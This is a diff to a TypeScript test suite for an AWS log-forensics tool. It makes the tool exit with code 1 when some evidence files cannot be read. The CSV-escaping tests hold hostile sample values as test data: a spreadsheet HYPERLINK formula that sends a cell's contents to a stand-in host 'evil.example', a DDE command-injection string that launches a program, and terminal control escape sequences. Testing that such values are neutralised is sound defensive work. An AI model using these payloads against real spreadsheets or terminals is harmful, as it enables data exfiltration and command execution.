@@ -61,7 +61,7 @@ describe('what is not a regular file is named and skipped, never followed', () =
     execFileSync('mkfifo', [fifo]);
     const all = filesUnder(path.join(copy, 'AWSLogs', X.account, 'CloudTrail')).length;
     const r = await json('investigate', 'evidence-tampering', '--logs', 'links');
-    expect(r.code).toBe(0);
+    expect(r.code).toBe(1);
     expect(r.json.warnings).toEqual(expect.arrayContaining([
       `links/AWSLogs/${X.account}/CloudTrail/${X.region}/2026/11/30: a symbolic link (to ${JSON.stringify(moved)}), not followed: a copy holds files, and a link may point outside it; skipped`,
       `${path.relative(dir, linkedFile)}: a symbolic link (to ${JSON.stringify(filesUnder(moved)[0])}), not followed: a copy holds files, and a link may point outside it; skipped`,
@@ -128,7 +128,7 @@ describe('a record whose time is not a time costs only itself', () => {
 
   test('evidence-tampering: the record is named (file and index in Records), the rest of its file and of the copy answered', async () => {
     const r = await json('investigate', 'evidence-tampering', '--logs', 'badtime');
-    expect(r.code).toBe(0);
+    expect(r.code).toBe(1);
     expect(r.json.warnings).toContain(named());
     expect(r.json.warnings).toEqual(expect.arrayContaining([expect.stringMatching(/-cut\.parquet: not readable as VPC flow logs \(Parquet\) \(.*\); skipped$/)]));
     expect(r.json.rows.map((row) => [row.action, row.principal])).toEqual([
@@ -139,11 +139,11 @@ describe('a record whose time is not a time costs only itself', () => {
 
   test('principal-activity and the timeline over the same copy: answered, no internal error', async () => {
     const r = await json('investigate', 'principal-activity', '--param', `principal=${X.attacker.role}`, '--logs', 'badtime');
-    expect(r.code).toBe(0);
+    expect(r.code).toBe(1);
     expect(r.err).not.toMatch(/internal error|failed over the inputs/);
     expect(r.json.rows.length).toBeGreaterThan(0);
     const t = await json('investigate', 'timeline', '--param', `principal=arn:aws:iam::${X.account}:user/beside`, '--param', `principal=arn:aws:iam::${X.account}:user/garbage`, '--logs', 'badtime');
-    expect(t.code).toBe(0);
+    expect(t.code).toBe(1);
     expect(t.json.warnings).toContain(named());
     expect(t.json.rows.map((e) => [e.principal, e.rawLine])).toEqual([[`arn:aws:iam::${X.account}:user/beside`, 2]]);
   }, 60_000);
@@ -154,7 +154,7 @@ test('a CloudTrail file that cannot be read is named even when the question read
   const key = cloudTrailLogKey(X.account, X.region, Date.parse('2026-11-30T02:00:00Z'), random(98));
   fs.writeFileSync(path.join(root, ...key.split('/')), zlib.gzipSync(JSON.stringify({ Records: { eventTime: '2026-11-30T02:00:00Z' } })));
   const r = await json('investigate', 'network-egress', '--param', 'address=eni-0abc', '--logs', 'notarray');
-  expect(r.code).toBe(0);
+  expect(r.code).toBe(1);
   expect(r.json.warnings).toEqual([expect.stringMatching(new RegExp(`^notarray/${key.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: not readable as CloudTrail \\(.*\\); skipped$`))]);
 }, 60_000);
 
@@ -252,7 +252,7 @@ describe('values of the logs cannot forge output: text escapes control character
 
   test('text: one line per row, each value with its escapes visible', async () => {
     const r = await ask();
-    expect(r.code).toBe(0);
+    expect(r.code).toBe(1);
     const lines = r.out.trimEnd().split('\n');
     expect(lines[0]).toBe(`principal-activity: 5 rows (principal=${role} from=2026-11-30T00:00:00Z to=2026-12-01T00:00:00Z)`);
     const rows = lines.slice(lines.indexOf('') + 2);
@@ -266,7 +266,7 @@ describe('values of the logs cannot forge output: text escapes control character
 
   test('csv: a field starting with = + - @, a tab or a carriage return gets a leading quote; the values are otherwise exact', async () => {
     const r = await ask('--format', 'csv');
-    expect(r.code).toBe(0);
+    expect(r.code).toBe(1);
     expect(r.out).toContain(`,"'\r\u001b[2K\u001b[1A\u001b[2K",`);
     expect(r.out).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",`);
     expect(r.out).toContain(`,"'\t=cmd|"" /C calc""!A0",`);
@@ -278,11 +278,48 @@ describe('values of the logs cannot forge output: text escapes control character
     // The line with the hostile time is named and skipped (the rest of its file is read), its value quoted escaped.
     const warning = 'hostile/data-capture/fraud-scoring-prod/primary/2026/11/30/13/b.jsonl: line 1 has no readable time (';
     const errLines = r.err.trimEnd().split('\n');
-    expect(errLines).toEqual([expect.stringContaining(`forensic-readiness: warning: ${warning}`)]);
+    expect(errLines).toEqual([expect.stringContaining(`forensic-readiness: warning: ${warning}`), 'forensic-readiness: timeline was not answered in full: it stands without evidence of the inputs that could not be read (1 warning above)']);
     expect(errLines[0].toLowerCase()).toContain('\\u001b[2k');
     expect(r.err).not.toMatch(unsafe);
     expect(r.out.split('\n').filter((l) => l.startsWith('warning: '))).toEqual([expect.stringContaining(warning)]);
     expect(r.out).not.toMatch(unsafe);
     expect(r.out).not.toMatch(/^warning: forged/m);
   }, 60_000);
+});
+
+describe('an answer that stands without some of the evidence is not one in full (exit 1)', () => {
+  const LAST = /^forensic-readiness: evidence-tampering was not answered in full: it stands without evidence of the inputs that could not be read \(\d+ warnings? above\)$/;
+  const last = (err: string): string => err.trimEnd().split('\n').pop() ?? '';
+
+  test('the intact copy answers in full: exit 0', async () => {
+    const r = await json('investigate', 'evidence-tampering', '--logs', 'copy');
+    expect([r.code, r.json.warnings.filter((w) => !/sidecar|digest/.test(w))]).toEqual([0, []]);
+  });
+
+  test('a CloudTrail log file cut to its first 100 bytes: named, the rest answered, exit 1 said last', async () => {
+    const root = copyOf('cut100');
+    const file = filesUnder(trailDay(root, '30')).find((f) => f.endsWith('.json.gz'))!;
+    fs.writeFileSync(file, fs.readFileSync(file).subarray(0, 100));
+    const r = await json('investigate', 'evidence-tampering', '--logs', 'cut100');
+    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
+    expect(r.json.warnings).toEqual(expect.arrayContaining([expect.stringContaining(`${path.basename(file)}: `)]));
+  });
+
+  test('a log file emptied (0 bytes) is evidence left out, not a file of no layout: exit 1', async () => {
+    const root = copyOf('emptied');
+    const file = filesUnder(trailDay(root, '30')).find((f) => f.endsWith('.json.gz'))!;
+    fs.writeFileSync(file, '');
+    const r = await json('investigate', 'evidence-tampering', '--logs', 'emptied');
+    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
+    expect(r.json.warnings).toContain(`${path.relative(dir, file)}: not a file of a known evidence layout (empty); skipped`);
+  });
+
+  test('a --logs path that does not exist beside one that does: exit 1; a README of no layout in the copy is no evidence left out: exit 0', async () => {
+    const r = await json('investigate', 'evidence-tampering', '--logs', 'copy', '--logs', 'no-such-folder');
+    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
+    const root = copyOf('readme');
+    fs.writeFileSync(path.join(root, 'README.txt'), 'case notes\n');
+    const withReadme = await json('investigate', 'evidence-tampering', '--logs', 'readme');
+    expect([withReadme.code, withReadme.json.warnings]).toEqual([0, expect.arrayContaining(['readme/README.txt: not a file of a known evidence layout (unrecognised path or content); skipped'])]);
+  });
 });
